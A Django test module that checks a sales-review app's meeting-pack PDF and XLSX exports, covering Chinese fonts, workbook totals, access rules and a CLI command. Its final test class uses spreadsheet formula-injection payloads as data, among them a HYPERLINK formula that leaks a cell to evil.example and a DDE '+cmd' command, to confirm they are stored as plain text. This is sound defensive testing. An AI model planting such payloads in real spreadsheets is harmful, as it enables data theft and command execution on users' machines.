"""The meeting pack: PDF (English and Chinese) and XLSX, from the page and the CLI."""

from __future__ import annotations

import io
import subprocess
import tempfile
from pathlib import Path

from django.core.management import CommandError, call_command
from django.utils import translation
from openpyxl import load_workbook
from PIL import Image

from firstchoice.reviews import actions, exports
from firstchoice.reviews.models import Statement
from tests.jobs import run_jobs
from tests.reviews.helpers import MONTH, MONTH_URL, ReviewCase

URL = f"/meetings/alpha/{MONTH_URL}/"
OUTPUT = Path(__file__).resolve().parents[2] / "test-output" / "reviews"


def _run(*args: str) -> str:
    # Fixed poppler tools on files this test wrote.
    return subprocess.run(args, check=True, capture_output=True, text=True).stdout


class PackCase(ReviewCase):
    @classmethod
    def setUpTestData(cls) -> None:
        super().setUpTestData()
        meeting = actions.open_meeting(actor=cls.mary, team=cls.alpha, month=MONTH)
        actions.save_statement(
            actor=cls.alice,
            salesperson=cls.alice_sp,
            month=MONTH,
            progress="Trial order from AL001. 试订单已下。",
            difficulties="Pricing pressure 价格压力",
            help_needed="A visit by the product manager.",
        )
        actions.save_note(
            actor=cls.mary,
            meeting=meeting,
            salesperson=cls.alice_sp,
            difficulties="",
            ideas="Invite their engineers to our plant.",
            decisions="Mary joins the next visit.",
            kudos="Alice won the trial order! 干得好！",
        )


class PdfTests(PackCase):
    def _pages(self, pdf: bytes, name: str) -> tuple[Path, list[Path]]:
        OUTPUT.mkdir(parents=True, exist_ok=True)
        path = OUTPUT / f"{name}.pdf"
        path.write_bytes(pdf)
        for old in OUTPUT.glob(f"{name}-*.png"):
            old.unlink()
        _run("pdftoppm", "-png", "-r", "60", str(path), str(OUTPUT / name))
        return path, sorted(OUTPUT.glob(f"{name}-*.png"))

    def _assert_not_blank(self, pngs: list[Path]) -> None:
        for png in pngs:
            with Image.open(png) as image:
                gray = image.convert("L")
                ink = sum(gray.histogram()[:200]) / (gray.width * gray.height)
                self.assertGreater(ink, 0.005, f"{png.name} looks blank")

    def test_it_renders_the_english_pack(self) -> None:
        path, pngs = self._pages(exports.meeting_pdf(self.alpha, MONTH, language="en"), "pack-en")
        self.assertGreaterEqual(len(pngs), 3)  # the summary, then alice and bob
        self._assert_not_blank(pngs)
        text = _run("pdftotext", "-layout", str(path), "-")
        for expected in ("Monthly meeting", "Alice A", "Bob B", "Team summary", "AL Customer 1"):
            self.assertIn(expected, text)
        self.assertIn("Trial order from AL001", text)
        self.assertIn("Alice won the trial order", text)
        self.assertIn("Year to date through June", text)  # the SVG chart's title

    def test_it_renders_the_chinese_pack_with_a_cjk_font(self) -> None:
        pdf = exports.meeting_pdf(self.alpha, MONTH, language="zh-hans")
        path, pngs = self._pages(pdf, "pack-zh")
        self._assert_not_blank(pngs)
        fonts = _run("pdffonts", str(path))
        self.assertRegex(fonts, r"Noto-?Sans-?CJK-?SC")
        text = _run("pdftotext", str(path), "-")
        self.assertIn("价格压力", text)
        self.assertIn("Alice A", text)
        with translation.override("zh-hans"):
            self.assertIn(translation.gettext("Total"), text)

    def test_it_downloads_the_pack_from_the_meeting_page(self) -> None:
        self.login(self.bob)
        with tempfile.TemporaryDirectory() as var, self.settings(VAR_DIR=Path(var)):
            r = self.client.get(URL + "pack.pdf?lang=zh-hans")
            self.assertContains(r, "Preparing the meeting pack")  # a background job builds it
            run_jobs()
            r = self.client.get(URL + "pack.pdf?lang=zh-hans")
            self.assertEqual(r.status_code, 200)
            self.assertEqual(r["Content-Type"], "application/pdf")
            self.assertIn(f"meeting-alpha-{MONTH_URL}.pdf", r["Content-Disposition"])
            self.assertTrue(b"".join(r.streaming_content).startswith(b"%PDF"))  # type: ignore[attr-defined]

    def test_it_hides_the_pack_from_other_teams(self) -> None:
        self.login(self.charlie)
        self.assertEqual(self.client.get(URL + "pack.pdf").status_code, 404)
        self.assertEqual(self.client.get(URL + "pack.xlsx").status_code, 404)

    def test_it_refuses_the_wrong_method(self) -> None:
        self.login(self.mary)
        self.assertEqual(self.client.post(URL + "pack.pdf").status_code, 405)
        self.assertEqual(self.client.post(URL + "pack.xlsx").status_code, 405)


class XlsxTests(PackCase):
    def test_it_writes_a_summary_and_a_sheet_per_salesperson(self) -> None:
        self.login(self.mary)
        r = self.client.get(URL + "pack.xlsx")
        self.assertEqual(r.status_code, 200)
        self.assertEqual(r["Content-Type"], exports.XLSX_TYPE)
        wb = load_workbook(io.BytesIO(r.content))
        self.assertEqual(wb.sheetnames, ["Summary", "Alice A", "Bob B"])
        summary = wb["Summary"]
        rows = list(summary.iter_rows(min_row=4, values_only=True))
        alice = next(row for row in rows if row[0] == "Alice A")
        # accounts, expected/actual (month), variance, %, actual of all accounts, then YTD
        self.assertEqual(alice[2], 15)
        # Variance compares the accounts with expected sales only: AL001 sold 1,200, and
        # that is the actual shown beside it; all fifteen sold 900 (a credit note).
        self.assertEqual(alice[3:8], (1000, 1200, 200, 0.2, 900))
        self.assertEqual((alice[8], alice[9], alice[10], alice[12]), (6000, 7200, 1200, 7400))
        team = next(row for row in rows if row[0] == "Team total")
        self.assertEqual(team[2], 18)
        self.assertEqual(team[4], 1200)
        self.assertEqual(team[7], 1899)
        self.assertEqual(summary[3][7].value, "Actual, all accounts (month)")
        self.assertEqual(summary.cell(row=5, column=7).number_format, exports.PERCENT_FORMAT)

    def test_it_stores_numbers_as_numbers(self) -> None:
        wb = load_workbook(io.BytesIO(exports.meeting_xlsx(self.alpha, MONTH)))
        sheet = wb["Alice A"]
        header = [c.value for c in sheet[3]]
        self.assertEqual(header[:4], ["Tier", "Code", "Customer", "Expected (month)"])
        first = [c for c in sheet[4]]
        self.assertEqual(first[1].value, "AL001")
        for cell in first[3:13]:
            self.assertIsInstance(cell.value, int | float, cell.coordinate)
        self.assertEqual(first[3].number_format, exports.MONEY_FORMAT)
        second = [c.value for c in sheet[5]]
        self.assertEqual(second[4], -300)  # the credit note
        self.assertIsNone(second[3])  # unknown expected is an empty cell, not 0
        values = [row for row in sheet.iter_rows(values_only=True) if row[0] == "Progress"]
        self.assertIn("试订单", values[0][2])
        kudos = [row for row in sheet.iter_rows(values_only=True) if row[0] == "Meeting: kudos"]
        self.assertIn("干得好", kudos[0][2])

    def test_it_reconciles_every_row_and_total_of_every_sheet(self) -> None:
        """Issue 12: Variance = Actual - Expected on the cells of each row, month and YTD."""
        wb = load_workbook(io.BytesIO(exports.meeting_xlsx(self.alpha, MONTH)))
        checked = 0
        for ws in wb.worksheets:
            header = [c.value for c in ws[3]]
            for period in ("month", "YTD"):
                e = header.index(f"Expected ({period})")
                a = header.index(f"Actual ({period})")
                v = header.index(f"Variance ({period})")
                for row in ws.iter_rows(min_row=4, values_only=True):
                    if len(row) <= v or not isinstance(row[v], int | float):
                        continue
                    self.assertAlmostEqual(row[v], row[a] - row[e], places=2, msg=row)
                    checked += 1
        self.assertGreaterEqual(checked, 10)

    def test_it_translates_the_workbook(self) -> None:
        wb = load_workbook(io.BytesIO(exports.meeting_xlsx(self.alpha, MONTH, language="zh-hans")))
        with translation.override("zh-hans"):
            self.assertEqual(wb.sheetnames[0], translation.gettext("Summary"))


class CommandTests(PackCase):
    def test_it_exports_both_formats(self) -> None:
        with tempfile.TemporaryDirectory() as tmp:
            out = io.StringIO()
            pdf = Path(tmp) / "pack.pdf"
            call_command(
                "export_review",
                team="alpha",
                month=MONTH_URL,
                format="pdf",
                out=str(pdf),
                language="zh-hans",
                stdout=out,
            )
            self.assertTrue(pdf.read_bytes().startswith(b"%PDF"))
            self.assertIn("Wrote the", out.getvalue())
            xlsx = Path(tmp) / "pack.xlsx"
            call_command(
                "export_review",
                team="alpha",
                month=MONTH_URL,
                format="xlsx",
                out=str(xlsx),
                stdout=io.StringIO(),
            )
            wb = load_workbook(xlsx)
            self.assertEqual(wb["Summary"].cell(row=4, column=3).value, 15)

    def test_it_names_a_bad_team_or_month(self) -> None:
        with self.assertRaisesMessage(CommandError, "--team: no team 'nope' (teams: alpha, beta)"):
            call_command("export_review", team="nope", month=MONTH_URL, format="pdf", out="x.pdf")
        with self.assertRaisesMessage(CommandError, "--month: '2025-13'"):
            call_command("export_review", team="alpha", month="2025-13", format="pdf", out="x.pdf")
        with self.assertRaisesMessage(CommandError, "--out: the folder"):
            call_command(
                "export_review", team="alpha", month=MONTH_URL, format="xlsx", out="/nope/x.xlsx"
            )


class InertXlsxTests(PackCase):
    FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'

    def test_it_writes_user_text_as_text_not_formulas(self) -> None:
        self.alice_customers[0].name = self.FORMULA
        self.alice_customers[0].save()
        Statement.objects.filter(salesperson=self.alice_sp, month=MONTH).update(
            progress="+cmd|' /C calc'!A0", difficulties="-2+3", help_needed="@SUM(A1)"
        )
        wb = load_workbook(io.BytesIO(exports.meeting_xlsx(self.alpha, MONTH)))
        cells = {c.value: c for row in wb["Alice A"].iter_rows() for c in row}
        for text in (self.FORMULA, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"):
            self.assertEqual(cells[text].data_type, "s", text)
        formulas = [c for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
        self.assertEqual(formulas, [])
        # A negative amount stays a number.
        self.assertIn(-300, cells)
